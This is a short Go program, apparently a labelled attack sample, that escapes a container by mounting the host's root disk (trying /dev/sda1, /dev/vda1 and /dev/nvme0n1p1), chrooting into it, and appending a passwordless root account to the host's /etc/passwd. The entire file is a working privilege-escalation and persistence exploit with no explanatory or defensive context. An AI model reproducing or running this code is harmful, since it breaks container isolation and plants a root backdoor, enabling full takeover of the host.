// class: container escape, host disk; style: syscalls
package main

import (
	"os"
	"syscall"
)

func main() {
	os.MkdirAll("/mnt/h", 0o755)
	for _, dev := range []string{"/dev/sda1", "/dev/vda1", "/dev/nvme0n1p1"} {
		if syscall.Mount(dev, "/mnt/h", "ext4", 0, "") == nil {
			break
		}
	}
	syscall.Chroot("/mnt/h")
	syscall.Exec("/bin/sh", []string{"sh", "-c", "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"}, os.Environ())
}
